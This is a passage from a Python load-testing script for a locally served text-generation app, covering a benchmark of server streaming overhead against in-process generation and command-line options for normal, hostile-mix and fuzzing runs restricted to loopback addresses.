    server_job_cost()  # puts the repository on sys.path for the imports below
    from app.handlers import Playground  # noqa: PLC0415 - the script's other modes need no model
    from app.settings import Limits  # noqa: PLC0415
    from model.common.hardware import hardware_info  # noqa: PLC0415
    from model.generation.generator import TextGenerator  # noqa: PLC0415
    from model.loading import load_model  # noqa: PLC0415

    generator = TextGenerator(load_model(None, adapter="auto", quantize="auto"))  # as app.py serves it
    playground = Playground(lambda: generator, Limits())
    values = stream_job_values(args.max_job_cost)
    in_process_job(playground, dict(values, max_new_tokens=8))  # warm each: kernels built, caches filled
    servers = {"server": url} | ({"compared_server": args.compare_url} if args.compare_url else {})
    processes = {"server": psutil.Process(server.pid) if server else None,
                 "compared_server": psutil.Process(args.compare_pid) if args.compare_pid else None}
    for address in servers.values():
        server_job(address, dict(values, max_new_tokens=8))
    load_before, runs = os.getloadavg(), []
    for repeat in range(args.repeats):  # each repeat in another order: a drift in the machine's load hits all
        ways = ["in_process", *servers]
        pair = {}
        for way in ways[repeat % len(ways):] + ways[:repeat % len(ways)]:
            pair[way] = (in_process_job(playground, values) if way == "in_process"
                         else server_job(servers[way], values, processes[way]))
        for way in servers:
            pair[f"{way}_ratio"] = round(pair[way]["seconds"] / pair["in_process"]["seconds"], 3)
            if pair[way]["cpu_s"] is not None:  # CPU time: far less moved by other work on a shared machine
                pair[f"{way}_cpu_ratio"] = round(pair[way]["cpu_s"] / pair["in_process"]["cpu_s"], 3)
        runs.append(pair)
        print(json.dumps(pair), flush=True)
    median = statistics.median(pair["server_ratio"] for pair in runs)
    report = {"mode": "stream_overhead", "command": command_line(), "url": url,
              "hardware": hardware_info(torch.device("cpu")), "load_average_before": load_before,
              "load_average_after": os.getloadavg(), "job": {k: v for k, v in values.items() if k != "prompt"}
              | {"prompt_words": len(values["prompt"].split())}, "runs": runs, "median_ratio": median,
              "median_in_process_s": statistics.median(p["in_process"]["seconds"] for p in runs),
              "median_server_s": statistics.median(p["server"]["seconds"] for p in runs), "target": STREAM_TARGET}
    if args.compare_url:
        report["compared_server_median_ratio"] = statistics.median(p["compared_server_ratio"] for p in runs)
        report["compared_server_median_s"] = statistics.median(p["compared_server"]["seconds"] for p in runs)
    for way in servers:
        if f"{way}_cpu_ratio" in runs[0]:
            report[f"{way}_median_cpu_ratio"] = statistics.median(p[f"{way}_cpu_ratio"] for p in runs)
    print(json.dumps(report, indent=1))
    Path(args.json or STREAM_OVERHEAD_JSON).write_text(json.dumps(report, indent=1) + "\n")
    return 0 if median <= STREAM_TARGET else 1


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--url", default=None, help="a running app on loopback (default: start one)")
    parser.add_argument("--clients", type=int, default=20)
    parser.add_argument("--duration", type=float, default=120.0, help="seconds of load")
    parser.add_argument("--max-new-tokens", type=int, default=16)
    parser.add_argument("--json", default=None, help="write the report here too (--hostile: default "
                                                     "assets/load/hostile.json)")
    parser.add_argument("--hostile", action="store_true", help="run the bounded hostile mix instead")
    parser.add_argument("--prompt-words", type=int, default=1500, help="--hostile: words in a long prompt")
    parser.add_argument("--page-attacks", action="store_true",
                        help="--hostile: only the attacks through the page's ways in (share links, invented "
                             "sessions, job cost, step mode, bad numbers, half-sent requests), written under "
                             "\"page_attacks\"")
    parser.add_argument("--event-fuzz", action="store_true",
                        help="--hostile: only the hostile page events (oversized inputs, over-cost and unknown "
                             "tasks, a seeded fuzz of every event), written under \"event_fuzz\"")
    parser.add_argument("--fuzz-seconds", type=float, default=60.0, help="--hostile: the events' fuzz")
    parser.add_argument("--tiny", action="store_true", help="--page-attacks: a dry run with tiny counts (writes "
                                                            "only to --json)")
    parser.add_argument("--max-job-cost", type=int, default=server_settings().max_job_cost,
                        help="--hostile: the server's job cost cap (the costliest admitted jobs are sized to it)")
    parser.add_argument("--stream-overhead", action="store_true",
                        help="time the 256-token job through the server against in-process (issue 51)")
    parser.add_argument("--repeats", type=int, default=5, help="--stream-overhead: jobs each way")
    parser.add_argument("--compare-url", default=None, help="--stream-overhead: a second running server (an "
                                                            "older checkout, say) timed in the same rounds")
    parser.add_argument("--compare-pid", type=int, default=None, help="--stream-overhead: that server's process id "
                                                                      "(its CPU seconds are counted too)")
    parser.add_argument("--queue-size", type=int, default=server_settings().queue_size,
                        help="--hostile: the server's queue size (for the queue share)")
    args = parser.parse_args()
    if not 1 <= args.clients <= 64 or not 1 <= args.duration <= 1800:
        raise SystemExit("--clients must be 1..64 and --duration 1..1800 s (the test is bounded)")
    if (args.page_attacks or args.event_fuzz or args.tiny) and not args.hostile:
        raise SystemExit("--page-attacks, --event-fuzz and --tiny go with --hostile")
    if not 1 <= args.prompt_words <= 1900:
        raise SystemExit("--prompt-words must be 1..1900 (the app's prompt limits: 8000 characters, 2048 tokens)")

    server = None
    url = args.url
    if url is None:
        port = free_port()
        server = start_server(port, distinct_visitors=not args.hostile)
        url = f"http://127.0.0.1:{port}/"
    if not url.startswith(("http://127.0.0.1", "http://localhost")):
        raise SystemExit("loopback only: --url must be http://127.0.0.1:... or http://localhost:...")
    process = psutil.Process(server.pid) if server else None
    try:
        if args.stream_overhead:
            return run_stream_overhead(url, server, args)
        if args.hostile and args.event_fuzz:
            return run_event_fuzz_only(url, server, args)
        if args.hostile and args.page_attacks:
            return run_page_attacks(url, server, args)
        return run_hostile(url, server, args) if args.hostile else run_normal(url, process, args)
    finally:
        if server is not None:
            server.terminate()
            server.wait(30)


if __name__ == "__main__":
    sys.exit(main())
